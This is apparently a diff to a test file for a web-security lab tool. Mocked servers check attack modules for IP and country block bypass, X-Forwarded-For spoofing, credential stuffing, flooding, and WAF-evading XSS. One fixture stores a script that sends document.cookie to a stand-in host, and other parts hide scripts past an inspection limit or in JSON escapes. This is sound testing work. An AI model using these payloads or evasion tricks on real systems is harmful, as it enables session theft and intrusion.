@@ -2,7 +2,7 @@ import { describe, expect, it } from "vitest";
 import type { Attack } from "../../src/attack.ts";
 import { ATTACKS } from "../../src/attacks/index.ts";
 import type { AwsSession } from "../../src/aws-session.ts";
-import type { LabRequest, LabResponse, Purpose } from "../../src/exchange.ts";
+import type { Exchange, LabRequest, LabResponse, Purpose } from "../../src/exchange.ts";
 import { SEED } from "../../src/seed.ts";
 import { answer, fakeContext, USERS } from "../support.ts";
 
@@ -35,6 +35,27 @@ const VULNERABLE: Record<string, { respond: Responder; evidence: string; hit?: {
   "api-key-instead-of-token": {
     respond: () => answer(200, { orders: [{ companyId: "acme" }, { companyId: "globex" }] }),
     evidence: "the key lists the orders of acme and globex",
+  },
+  "blocked-address": {
+    respond: () => answer(200, { userId: "sub-alice" }),
+    evidence: "alice's stolen token is good at an address that is denied",
+  },
+  "blocked-country": {
+    respond: () => answer(200, { userId: "sub-alice" }),
+    evidence: "alice's stolen token is good in a country that is denied",
+  },
+  "body-beyond-inspection": {
+    respond: stored({ note: `${"n".repeat(17_000)} <script>fetch("http://127.0.0.1:9/t0?"+document.cookie)</script>` }),
+    evidence: "a script is stored behind 17000 characters",
+  },
+  "credential-stuffing": {
+    respond: ({ body = "" }) =>
+      body.includes("alice@") ? answer(204, "", { "set-cookie": "__Host-session=c1; Path=/" }) : REFUSED,
+    evidence: "pair 25 of the list is alice's: signed in",
+  },
+  "flood-one-address": {
+    respond: () => answer(200, mug()),
+    evidence: "420 of 420 requests of one address were served",
   },
   "function-level-authorization": {
     respond: () => answer(200, { orders: [{ companyId: "acme" }, { companyId: "globex" }] }),
@@ -81,6 +102,10 @@ const VULNERABLE: Record<string, { respond: Responder; evidence: string; hit?: {
     respond: (_request, purpose) => answer(200, { discountCents: purpose === "proof" ? 777 : 0 }),
     evidence: "bob's clean cart has a discount of 777 cents",
   },
+  "spoofed-forwarded-for": {
+    respond: () => answer(200, { userId: "sub-alice" }),
+    evidence: "alice's stolen token is good at a denied address that names another one",
+  },
   "sqli-boolean": {
     respond: (request) => answer(200, request.path.includes("globex-s") ? mug() : { products: [] }),
     evidence: 'the mug is found exactly when the guess "globex-s" is right',
@@ -102,6 +127,11 @@ const VULNERABLE: Record<string, { respond: Responder; evidence: string; hit?: {
   "xml-entity-expansion": {
     respond: () => imported("x".repeat(204_800)),
     evidence: "679 bytes became a note of 204800: 301 times",
+  },
+  "xss-encoded": {
+    respond: () => answer(200, { id: "1" }),
+    hit: { query: "" },
+    evidence: "the script ran in carol's browser and reached the attacker (no cookie)",
   },
   "xss-reflected": {
     respond: () => answer(200, "<script>"),
@@ -199,6 +229,7 @@ const served: Responder = (request) => {
     const { companyId = "", groups } = USERS[client as keyof typeof USERS];
     return answer(200, { userId: `sub-${client}`, companyId, groups });
   }
+  if (path === "/session") return answer(204, "", { "set-cookie": "__Host-session=c1; Path=/" });
   if (path.startsWith("/admin")) return answer(200, { orders: [{}, {}] });
   if (path.startsWith("/orders/import")) return imported("twin: a plain feed");
   if (path.includes("/receipt"))
@@ -225,6 +256,57 @@ describe.each(ATTACKS)("the twin of $id", (attack: Attack) => {
 
   it("fails where the answer is empty", async () => {
     expect((await attack.twin(fakeContext(() => answer(200, {})))).ok).toBe(false);
+  });
+});
+
+describe("attacks on the edge", () => {
+  const sentBy = async (id: string, respond: Responder = () => REFUSED) => {
+    const context = fakeContext(respond);
+    const outcome = await (ATTACKS.find((attack) => attack.id === id) as Attack).run(context);
+    return { outcome, sent: context.sent };
+  };
+
+  it("come from the places that are denied, one of them with a header that says otherwise", async () => {
+    for (const [id, from, forwarded] of [
+      ["blocked-address", "127.0.9.1", undefined],
+      ["blocked-country", "127.0.4.1", undefined],
+      ["spoofed-forwarded-for", "127.0.9.2", "192.0.2.10"],
+    ] as const) {
+      const { request } = (await sentBy(id)).sent[0] as Exchange;
+      expect([request.from, request.headers?.["x-forwarded-for"], request.headers?.authorization]).toEqual([
+        from,
+        forwarded,
+        "Bearer alice",
+      ]);
+    }
+  });
+
+  it("say whether others are served while one floods", async () => {
+    const limited: Responder = ({ from }) => (from ? answer(429) : answer(200, mug()));
+    expect((await sentBy("flood-one-address", limited)).outcome).toEqual({
+      effect: false,
+      evidence: "300 of 420 requests of one address were served, then GET /products?q=Mug → 429; others are served",
+    });
+    expect((await sentBy("flood-one-address")).outcome.evidence).toMatch(/; others are not served$/);
+  });
+
+  it("try a list of pairs from one address, without a token, and are judged by the one that fits", async () => {
+    const { sent } = await sentBy("credential-stuffing");
+    expect(sent.map(({ purpose }) => purpose)).toEqual([...Array(24).fill("setup"), "attack"]);
+    expect(new Set(sent.map(({ request }) => request.from))).toEqual(new Set(["127.0.1.1"]));
+    expect(sent.some(({ request }) => request.headers?.authorization !== undefined)).toBe(false);
+    expect(new Set(sent.map(({ request }) => request.body)).size).toBe(25);
+  });
+
+  it("hide a script behind 17000 characters, or in escapes that JSON undoes", async () => {
+    const [beyond, encoded] = [
+      (await sentBy("body-beyond-inspection")).sent[0]?.request.body ?? "",
+      (await sentBy("xss-encoded")).sent[0]?.request.body ?? "",
+    ];
+    expect(beyond.indexOf("<script>")).toBeGreaterThan(16_384);
+    expect(encoded).not.toMatch(/[<>/]/);
+    expect(encoded).toContain("\\u003cscript\\u003e");
+    expect(JSON.parse(encoded).note).toMatch(/^<script>.*<\/script>$/);
   });
 });
 
